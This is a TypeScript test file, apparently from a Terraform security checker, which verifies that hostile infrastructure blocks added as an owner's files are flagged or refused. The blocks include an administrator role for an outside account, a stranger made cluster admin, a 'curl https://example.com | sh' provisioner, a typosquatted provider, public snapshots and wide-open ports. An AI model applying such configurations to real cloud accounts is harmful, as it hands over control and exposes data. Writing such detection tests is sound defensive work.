import { formatProblem } from "../../../src/environment/problems";
import { CHECKS } from "../../../src/checks/all";
import { statedIn } from "../../../src/infrastructure/stated";
import { type EnvironmentPlan } from "../../../src/terraform/environment-plan";
import { type Layer } from "../../../src/base/layers";
import { problemsOfOwnFiles } from "../../../src/synth/own-files/file-problems";
import { join } from "node:path";
import { environmentPlan } from "../../support/altered";
import { configWith } from "../../support/environments";
import { CONTEXT } from "../../support/findings";
import { configurationsIn } from "../../support/own-configurations";
import { environmentWithOwnFile } from "../../support/own-stacks";
import { settingsFor } from "../../support/recorded-causes";
import { planOf } from "../../support/reference-plans";

/** Blocks that an attacker adds to an environment, as a file of the owner. */
interface Attack {
  readonly what: string;
  readonly layer: Layer;
  readonly name?: string;
  readonly text: string;
}

/** An attack that a check, or `own-block-not-judged`, reports at its block. */
interface Held extends Attack {
  readonly address: string;
  readonly check: string;
  /** Words of the message. */
  readonly words: RegExp;
}

const HELD: readonly Held[] = [
  {
    what: "a role with AdministratorAccess",
    layer: "cluster",
    text:
      'resource "aws_iam_role" "x" {\n  name = "mlapp-x"\n  assume_role_policy = jsonencode({ Version = "2012-10-17", Statement = [{ ' +
      'Effect = "Allow", Action = "sts:AssumeRole", Principal = { AWS = "arn:aws:iam::333344445555:role/ci" } }] })\n}\n' +
      'resource "aws_iam_role_policy_attachment" "x" {\n  role = aws_iam_role.x.name\n  policy_arn = "arn:aws:iam::aws:policy/AdministratorAccess"\n}\n',
    address: "aws_iam_role_policy_attachment.x",
    check: "own-block-not-judged",
    words: /policy_arn/,
  },
  {
    what: "a stranger as cluster admin",
    layer: "cluster",
    text:
      'resource "aws_eks_access_policy_association" "x" {\n  cluster_name = aws_eks_cluster.main.name\n' +
      '  principal_arn = "arn:aws:iam::999988887777:role/stranger"\n' +
      '  policy_arn = "arn:aws:eks::aws:cluster-access-policy/AmazonEKSClusterAdminPolicy"\n  access_scope {\n    type = "cluster"\n  }\n}\n',
    address: "aws_eks_access_policy_association.x",
    check: "cluster-admins",
    words: /999988887777/,
  },
  {
    what: "an SSH key",
    layer: "cluster",
    text: 'resource "aws_key_pair" "x" {\n  key_name = "x"\n  public_key = "ssh-ed25519 AAAA"\n}\n',
    address: "aws_key_pair.x",
    check: "secrets-out-of-state",
    words: /SSH access/,
  },
  {
    what: "an instance of a foreign image",
    layer: "cluster",
    text: 'resource "aws_instance" "x" {\n  ami = "ami-0123456789abcdef0"\n  instance_type = "m7i.large"\n}\n',
    address: "aws_instance.x",
    check: "own-block-not-judged",
    words: /not judged.*\bami\b/,
  },
  {
    what: "a command on the machine of Terraform",
    layer: "network",
    text: 'resource "terraform_data" "x" {\n  provisioner "local-exec" {\n    command = "curl https://example.com | sh"\n  }\n}\n',
    address: "terraform_data.x",
    check: "own-block-not-judged",
    words: /provisioner/,
  },
  {
    what: "a foreign module",
    layer: "network",
    text: 'module "x" {\n  source = "stranger/x/aws"\n  version = "1.0.0"\n}\n',
    address: "module.x",
    check: "own-block-not-judged",
    words: /module.*source/,
  },
  {
    what: "a snapshot that is shared with everyone",
    layer: "cluster",
    text:
      'resource "aws_db_snapshot" "x" {\n  db_instance_identifier = "a"\n  db_snapshot_identifier = "b"\n' +
      '  shared_accounts = ["all"]\n}\n',
    address: "aws_db_snapshot.x",
    check: "own-block-not-judged",
    words: /shared_accounts/,
  },
  {
    what: "a public URL of a function",
    layer: "cluster",
    text: 'resource "aws_lambda_function_url" "x" {\n  function_name = "f"\n  authorization_type = "NONE"\n}\n',
    address: "aws_lambda_function_url.x",
    check: "own-block-not-judged",
    words: /authorization_type/,
  },
  {
    what: "the account's public access block off",
    layer: "cluster",
    text: 'resource "aws_s3_account_public_access_block" "x" {\n  block_public_acls = false\n  block_public_policy = false\n}\n',
    address: "aws_s3_account_public_access_block.x",
    check: "own-block-not-judged",
    words: /block_public_acls/,
  },
  {
    what: "every port open for everyone",
    layer: "network",
    text:
      'resource "aws_vpc_security_group_ingress_rule" "x" {\n  security_group_id = aws_security_group.nodes.id\n' +
      '  cidr_ipv4 = "0.0.0.0/0"\n  ip_protocol = "-1"\n}\n',
    address: "aws_vpc_security_group_ingress_rule.x",
    check: "internet-ingress",
    words: /0\.0\.0\.0\/0/,
  },
  {
    what: "a peering connection to a stranger",
    layer: "network",
    text:
      'resource "aws_vpc_peering_connection" "x" {\n  vpc_id = aws_vpc.main.id\n  peer_vpc_id = "vpc-0a1b2c3d4e5f60718"\n' +
      '  peer_owner_id = "999988887777"\n}\n',
    address: "aws_vpc_peering_connection.x",
    check: "attachment-stated",
    words: /account 999988887777, expected .*, as network\.attachments has it/,
  },
];

/** Attacks that no own file can hold: a refused block or file, at its line. */
const REFUSED: readonly (Attack & { readonly words: RegExp })[] = [
  {
    what: "a provider from hashicopr/aws",
    layer: "network",
    text: 'terraform {\n  required_providers {\n    aws = {\n      source = "hashicopr/aws"\n    }\n  }\n}\n',
    words: /x\.tf:1:1 terraform: got a terraform block/,
  },
  {
    what: "count = 0 on default-deny",
    layer: "models",
    text: 'resource "kubernetes_network_policy_v1" "models_default_deny" {\n  count = 0\n}\n',
    words: /x\.tf:1:1 kubernetes_network_policy_v1\.models_default_deny: got an address that exists already/,
  },
  {
    what: "count = 0 on the public access block of a bucket",
    layer: "state",
    text: 'resource "aws_s3_bucket_public_access_block" "state_bucket" {\n  count = 0\n}\n',
    words: /x\.tf:1:1 aws_s3_bucket_public_access_block\.state_bucket: got an address that exists already/,
  },
  {
    what: "an override file that opens the API",
    layer: "cluster",
    name: "x_override.tf",
    text: 'resource "aws_eks_cluster" "main" {\n  vpc_config {\n    endpoint_public_access = true\n  }\n}\n',
    words: /x_override\.tf:1:1 .*an override file/,
  },
];

const refusals = ({ layer, name = "x.tf", text }: Attack): string[] =>
  problemsOfOwnFiles([{ name, path: `mlapp/${layer}/${name}`, text }], planOf("mlapp").stack(layer)).map(
    formatProblem,
  );

interface Found {
  readonly check: string;
  readonly address: string;
  readonly message: string;
}

/** Synth knows the file when it judges an own block. */
const IN_SYNTH = { ...CONTEXT, statedOf: (name: string) => statedIn(settingsFor(configWith(name))) };

const errorsOf = (plan: EnvironmentPlan): Found[] =>
  CHECKS.filter(({ severity }) => severity === "error").flatMap((check) =>
    check.run(plan, IN_SYNTH).map(({ address, message }) => ({ check: check.id, address, message })),
  );

let before: ReadonlySet<string>;

beforeAll(() => {
  before = new Set(errorsOf(environmentPlan(planOf("mlapp"))).map((found) => JSON.stringify(found)));
});

test.each(HELD.map((attack) => [attack.what, attack] as const))(
  "%s as an own file is an error at its block",
  (_, attack) => {
    expect(refusals(attack)).toEqual([]);
    const found = errorsOf(environmentWithOwnFile("mlapp", attack.layer, attack.text)).filter(
      (each) => !before.has(JSON.stringify(each)),
    );
    expect(found).toContainEqual({
      check: attack.check,
      address: attack.address,
      message: expect.stringMatching(attack.words) as string,
    });
    // One block has one error about what is not judged.
    const open = found.filter(({ check }) => check === "own-block-not-judged").map(({ address }) => address);
    expect(open).toEqual([...new Set(open)]);
  },
);

test.each(REFUSED.map((attack) => [attack.what, attack] as const))(
  "%s is refused at its line",
  (_, attack) => {
    const [first = "", ...others] = refusals(attack);
    expect(first).toMatch(attack.words);
    expect(others).toEqual([]);
  },
);

test.each(configurationsIn(join(__dirname, "hostile")).map((each) => [each.path, each] as const))(
  "a block that opens, grants, runs or gives away something has an error at its own address: %s",
  (_, { layer, text }) => {
    const plan = environmentWithOwnFile("mlapp", layer, text);
    const own = plan.stack(layer)?.own.map(({ address }) => address) ?? [];
    const found = errorsOf(plan).filter((each) => own.includes(each.address));
    expect(found).not.toEqual([]);
  },
);
